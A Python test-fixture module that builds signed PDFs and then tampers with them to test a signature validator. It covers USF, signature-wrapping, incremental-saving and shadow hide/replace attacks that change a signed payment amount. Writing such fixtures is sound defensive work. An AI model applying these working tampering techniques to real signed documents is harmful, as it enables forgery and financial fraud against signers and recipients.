"""Attack files for the validation tests (issue 14), each made from a validly signed PDF.

A base document is written by hand (one page of text, a text field "Name" with its appearance, an opaque Square
annotation over part of the page, a hidden Square annotation), signed by pyHanko (an approval signature, a
certification signature with DocMDP P=1/2/3, or an approval signature whose FieldMDP locks "Name"), and then
attacked by editing bytes (USF, /ByteRange, SWA, /SubFilter) or by appending a raw incremental update (ISA,
shadow attacks, DocMDP/FieldMDP violations) written here byte by byte with a classic cross-reference section, as
an attacker's tool would. The controls (form filling, a second approval signature, a comment) are made the same
way or by pyHanko itself.

Object numbers of the base document: 1 catalog, 2 page tree, 3 page, 4 page content, 5 text field "Name" (merged
with its widget), 6 its appearance, 7 font, 8 the opaque overlay annotation, 9 its appearance, 10 the hidden
annotation, 11 its appearance, 12 a second page tree (the shadow document a hide-and-replace attack switches to),
13 its page, 14 that page's content.
"""

from __future__ import annotations

import datetime as dt
import io
import re

from asn1crypto import keys as asn1_keys
from asn1crypto import x509 as asn1_x509
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader
from pyhanko.sign import fields, signers
from pyhanko_certvalidator.registry import SimpleCertificateStore

_SIGNER: signers.SimpleSigner | None = None


def _signer() -> signers.SimpleSigner:
    """One throwaway self-signed P-256 signer per test session (the attacks do not depend on the chain)."""
    global _SIGNER  # noqa: PLW0603 - a session-wide cache of an expensive key
    if _SIGNER is None:
        key = ec.generate_private_key(ec.SECP256R1())
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Açar attack test signer")])
        now = dt.datetime.now(dt.UTC)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
                .serial_number(x509.random_serial_number()).not_valid_before(now - dt.timedelta(minutes=5))
                .not_valid_after(now + dt.timedelta(days=1))
                # EN 319 412-2 section 4.3.2: a document signer's key asserts nonRepudiation (the validator's
                # purpose check); the controls must pass a validator that trusts this certificate
                .add_extension(x509.KeyUsage(True, True, False, False, False, False, False, False, False),
                               critical=True)
                .sign(key, hashes.SHA256()))
        asn1_cert = asn1_x509.Certificate.load(cert.public_bytes(serialization.Encoding.DER))
        _SIGNER = signers.SimpleSigner(
            signing_cert=asn1_cert,
            signing_key=asn1_keys.PrivateKeyInfo.load(key.private_bytes(
                serialization.Encoding.DER, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())),
            cert_registry=SimpleCertificateStore.from_certs([asn1_cert]))
    return _SIGNER


def signer_certificate() -> asn1_x509.Certificate:
    """The throwaway signer's self-signed certificate (a validator's trust anchor for the attack files)."""
    cert: asn1_x509.Certificate = _signer().signing_cert
    return cert


def _stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(body), extra, body)


def _appearance(text: bytes, width: int, height: int) -> bytes:
    body = b"/Tx BMC BT /Helv 12 Tf 2 10 Td (%s) Tj ET EMC" % text
    return _stream(body, b"/Type /XObject /Subtype /Form /BBox [0 0 %d %d] /Resources << /Font << /Helv 7 0 R >> >>"
                   % (width, height))


FIELD_NAME = "Name"
TEXT_FIELD = (b"<< /FT /Tx /T (Name) /V (Alice) /Type /Annot /Subtype /Widget /Rect [72 600 300 630] /F 4 "
              b"/P 3 0 R /DA (/Helv 12 Tf 0 g) /AP << /N 6 0 R >> >>")
OVERLAY = (b"<< /Type /Annot /Subtype /Square /Rect [70 740 400 780] /F 4 /IC [1 1 1] /C [1 1 1] "
           b"/AP << /N 9 0 R >> >>")
HIDDEN = (b"<< /Type /Annot /Subtype /Square /Rect [70 690 400 730] /F 6 /IC [1 1 1] /C [1 1 1] "
          b"/AP << /N 11 0 R >> >>")
_OPAQUE_BOX = _stream(b"1 g 0 0 330 40 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 330 40]")


def base_pdf() -> bytes:
    """The unsigned base document (module docstring), with a classic cross-reference table."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] /DA (/Helv 0 Tf 0 g) "
           b"/DR << /Font << /Helv 7 0 R >> >> >> >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
           b"/Resources << /Font << /F1 7 0 R >> >> /Annots [5 0 R 8 0 R 10 0 R] >>",
        4: _stream(b"BT /F1 24 Tf 72 750 Td (Pay 1000000 AZN) Tj ET BT /F1 24 Tf 72 700 Td (Pay 100 AZN) Tj ET"),
        5: TEXT_FIELD,
        6: _appearance(b"Alice", 228, 30),
        7: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        8: OVERLAY,
        9: _OPAQUE_BOX,
        10: HIDDEN,
        11: _stream(b"BT /Helv 24 Tf 0 10 Td (Pay 5 AZN) Tj ET",
                    b"/Type /XObject /Subtype /Form /BBox [0 0 330 40] /Resources << /Font << /Helv 7 0 R >> >>"),
        12: b"<< /Type /Pages /Kids [13 0 R] /Count 1 >>",
        13: b"<< /Type /Page /Parent 12 0 R /MediaBox [0 0 595 842] /Contents 14 0 R "
            b"/Resources << /Font << /F1 7 0 R >> >> >>",
        14: _stream(b"BT /F1 24 Tf 72 700 Td (Pay 999999 AZN) Tj ET"),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for number in sorted(objects):
        out += b"%010d 00000 n \n" % offsets[number]
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def sign(pdf: bytes, *, field_name: str = "Signature1", certify: bool = False,
         docmdp: fields.MDPPerm | None = None, lock_fields: tuple[str, ...] = ()) -> bytes:
    """An approval signature (or, with `certify`, a certification signature with DocMDP `docmdp`) by pyHanko
    in a new invisible field; `lock_fields`: the new field's FieldMDP lock (ISO 32000-2 section 12.8.2.4)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf), strict=True)
    meta = signers.PdfSignatureMetadata(field_name=field_name, certify=certify,
                                        docmdp_permissions=docmdp or fields.MDPPerm.FILL_FORMS)
    spec = fields.SigFieldSpec(field_name, field_mdp_spec=fields.FieldMDPSpec(
        fields.FieldMDPAction.INCLUDE, fields=list(lock_fields))) if lock_fields else None
    out = io.BytesIO()
    signers.sign_pdf(writer, meta, signer=_signer(), output=out, new_field_spec=spec)
    return out.getvalue()


# --- byte editing --------------------------------------------------------------------------------------------------


def byte_range(pdf: bytes, index: int = -1) -> tuple[list[int], tuple[int, int]]:
    """The `index`th /ByteRange in the file (numbers) and the span of its `[...]` text."""
    matches = list(re.finditer(rb"/ByteRange\s*(\[[^\]]*\])", pdf))
    match = matches[index]
    return [int(n) for n in match.group(1)[1:-1].split()], match.span(1)


def replace_same_length(pdf: bytes, span: tuple[int, int], text: bytes) -> bytes:
    """Replace pdf[span] by `text` padded with spaces (offsets elsewhere unchanged)."""
    start, end = span
    assert len(text) <= end - start, (text, end - start)
    return pdf[:start] + text.ljust(end - start) + pdf[end:]


def set_byte_range(pdf: bytes, numbers: list[int], index: int = -1) -> bytes:
    _, span = byte_range(pdf, index)
    return replace_same_length(pdf, span, b"[" + b" ".join(b"%d" % n for n in numbers) + b"]")


def contents_span(pdf: bytes, index: int = -1) -> tuple[int, int]:
    """The span of the `index`th signature's `/Contents <...>` key and value."""
    match = list(re.finditer(rb"/Contents\s*<[0-9A-Fa-f]*>", pdf))[index]
    return match.span()


def no_subfilter(signed: bytes) -> bytes:
    """The /SubFilter entry blanked out (spaces): a reader keyed on it sees no signature."""
    match = re.search(rb"/SubFilter\s*/[A-Za-z0-9.]+", signed)
    assert match is not None
    return replace_same_length(signed, match.span(), b"")


def usf_contents(signed: bytes, how: str) -> bytes:
    """/Contents missing ("missing"), empty ("empty") or null ("null")."""
    replacement = {"missing": b"", "empty": b"/Contents <>", "null": b"/Contents null"}[how]
    return replace_same_length(signed, contents_span(signed), replacement)


def usf_byte_range(signed: bytes, how: str) -> bytes:
    """/ByteRange missing, null or empty."""
    match = re.search(rb"/ByteRange\s*\[[^\]]*\]", signed)
    assert match is not None
    replacement = {"missing": b"", "null": b"/ByteRange null", "empty": b"/ByteRange []"}[how]
    return replace_same_length(signed, match.span(), replacement)


def usf_cert(signed: bytes) -> bytes:
    """The /SubFilter turned into adbe.x509.rsa_sha1, whose signer certificate must be in /Cert, and none given."""
    match = re.search(rb"/SubFilter\s*/adbe\.pkcs7\.detached", signed)
    assert match is not None
    return replace_same_length(signed, match.span(), b"/SubFilter /adbe.x509.rsa_sha1")


def signature_wrapping(signed: bytes) -> bytes:
    """SWA (Mladenov et al. 2019 section 5.3): the second signed part (which holds /ByteRange: pyHanko writes it
    after /Contents) is moved to the end of the file, behind new unsigned content, and a new /ByteRange in the
    hole points at the moved copy; the signed bytes are the same, the hole holds more than /Contents."""
    (_, first, second_start, second_length), span = byte_range(signed)
    second = signed[second_start:second_start + second_length]
    malicious = b"\n15 0 obj\n<< /Type /Annot /Subtype /FreeText /Contents (injected) >>\nendobj\n%"
    # the moved copy starts after: head, the rewritten second part, the malicious bytes
    moved_at = second_start + second_length + len(malicious)
    rewritten = replace_same_length(signed, span, b"[0 %d %d %d]" % (first, moved_at, second_length))
    return rewritten[:second_start + second_length] + malicious + second


# --- incremental updates -------------------------------------------------------------------------------------------


def _trailer_facts(pdf: bytes) -> tuple[int, int, bytes]:
    """(/Size, startxref, the trailer's /Root and /Info entries) of the newest revision."""
    reader = PdfFileReader(io.BytesIO(pdf), strict=False)
    size = int(reader.trailer["/Size"])
    startxref = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])
    root = reader.trailer.raw_get("/Root")
    entries = b"/Root %d %d R" % (root.idnum, root.generation)
    return size, startxref, entries


def append_update(pdf: bytes, objects: dict[int, bytes], *, root: int | None = None, xref: bool = True,
                  trailer: bool = True) -> bytes:
    """An incremental update (ISO 32000-2 section 7.5.6) with `objects` (new or redefined), written by hand.

    `xref=False`: no cross-reference section (with `trailer`, the trailer's startxref points to the previous
    revision's xref: a new body without a new xref); `trailer=False`: nothing after the objects at all."""
    size, previous, root_entries = _trailer_facts(pdf)
    if root is not None:
        root_entries = b"/Root %d 0 R" % root
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    offsets: dict[int, int] = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not trailer:
        return bytes(out)
    new_size = max(size, max(objects) + 1)
    xref_at = previous
    if xref:
        xref_at = len(out)
        out += b"xref\n0 1\n0000000000 65535 f \n"
        for number in sorted(objects):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d %s /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        new_size, root_entries, previous, xref_at)
    return bytes(out)


def next_object(pdf: bytes) -> int:
    return _trailer_facts(pdf)[0]


def fill_form(signed: bytes, value: bytes = b"Bob") -> bytes:
    """Legitimate form filling: field "Name" gets a new /V and a new appearance stream."""
    new = next_object(signed)
    field = TEXT_FIELD.replace(b"/V (Alice)", b"/V (%s)" % value).replace(b"/N 6 0 R", b"/N %d 0 R" % new)
    return append_update(signed, {5: field, new: _appearance(value, 228, 30)})


def add_comment(signed: bytes) -> bytes:
    """A sticky note (/Text annotation without an appearance of its own) added to the page: a comment."""
    return _add_annotation(signed, b"<< /Type /Annot /Subtype /Text /Rect [500 800 520 820] /F 4 "
                                   b"/Contents (Looks good) >>")


def _add_annotation(signed: bytes, annotation: bytes, extra: dict[int, bytes] | None = None) -> bytes:
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
    page = page_ref.get_object()
    annots = [a.idnum for a in page.raw_get("/Annots")] if "/Annots" in page else []
    new = next_object(signed)
    page_text = _page_text(page, [*annots, new])
    return append_update(signed, {page_ref.idnum: page_text, new: annotation, **(extra or {})})


def _page_text(page: object, annots: list[int]) -> bytes:
    references = b" ".join(b"%d 0 R" % n for n in annots)
    return (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 7 0 R >> >> /Annots [%s] >>" % references)


def shadow_hide(signed: bytes) -> bytes:
    """Hide: the opaque overlay that covered "Pay 1000000 AZN" when signed is made hidden (/F 6)."""
    return append_update(signed, {8: OVERLAY.replace(b"/F 4", b"/F 6")})


def shadow_hide_by_removal(signed: bytes) -> bytes:
    """Hide: the overlay annotation removed from the page's /Annots."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    page = reader.root["/Pages"]["/Kids"][0].get_object()
    annots = [a.idnum for a in page.raw_get("/Annots") if a.idnum != 8]
    return append_update(signed, {3: _page_text(page, annots)})


def shadow_replace_overlay(signed: bytes) -> bytes:
    """Replace via overlay: a FreeText annotation with an opaque appearance showing new text over the page."""
    appearance = next_object(signed) + 1
    return _add_annotation(
        signed, b"<< /Type /Annot /Subtype /FreeText /Rect [70 690 400 730] /F 4 /DA (/Helv 24 Tf 0 g) "
                b"/Contents (Pay 5 AZN) /AP << /N %d 0 R >> >>" % appearance,
        {appearance: _stream(b"1 g 0 0 330 40 re f BT /Helv 24 Tf 0 10 Td (Pay 5 AZN) Tj ET",
                             b"/Type /XObject /Subtype /Form /BBox [0 0 330 40] "
                             b"/Resources << /Font << /Helv 7 0 R >> >>")})


def shadow_replace_reveal(signed: bytes) -> bytes:
    """Replace: the hidden annotation prepared before signing is made visible."""
    return append_update(signed, {10: HIDDEN.replace(b"/F 6", b"/F 4")})


def shadow_replace_font(signed: bytes) -> bytes:
    """Replace via the field's default appearance: /DA switched to another font and size."""
    return append_update(signed, {5: TEXT_FIELD.replace(b"/DA (/Helv 12 Tf 0 g)", b"/DA (/F1 30 Tf 1 0 0 rg)")})


def shadow_replace_appearance(signed: bytes) -> bytes:
    """Replace via overwrite: the field's appearance redrawn with other text while /V stays "Alice"."""
    new = next_object(signed)
    return append_update(signed, {5: TEXT_FIELD.replace(b"/N 6 0 R", b"/N %d 0 R" % new),
                                  new: _appearance(b"Mallory", 228, 30)})


def shadow_hide_and_replace_content(signed: bytes) -> bytes:
    """Hide-and-replace by object override: the page's content stream (object 4) redefined."""
    return append_update(signed, {4: _stream(b"BT /F1 24 Tf 72 700 Td (Pay 999999 AZN) Tj ET")})


def shadow_hide_and_replace_catalog(signed: bytes) -> bytes:
    """Hide-and-replace by redirection: a new catalog (trailer /Root) whose /Pages is the shadow page tree."""
    reader = PdfFileReader(io.BytesIO(signed), strict=False)
    acroform = reader.root.raw_get("/AcroForm")
    form = b"%d 0 R" % acroform.idnum if hasattr(acroform, "idnum") else b"<< /Fields [5 0 R] >>"
    new = next_object(signed)
    return append_update(signed, {new: b"<< /Type /Catalog /Pages 12 0 R /AcroForm %s >>" % form}, root=new)


def isa_unsigned_objects(signed: bytes) -> bytes:
    """ISA: an object redefined after the last %%EOF, with no cross-reference section or trailer."""
    return append_update(signed, {4: _stream(b"BT /F1 24 Tf 72 700 Td (Pay 999999 AZN) Tj ET")}, trailer=False)


def isa_no_xref(signed: bytes) -> bytes:
    """ISA: a new body and trailer whose startxref points to the previous revision's cross-reference section."""
    return append_update(signed, {4: _stream(b"BT /F1 24 Tf 72 700 Td (Pay 999999 AZN) Tj ET")}, xref=False)
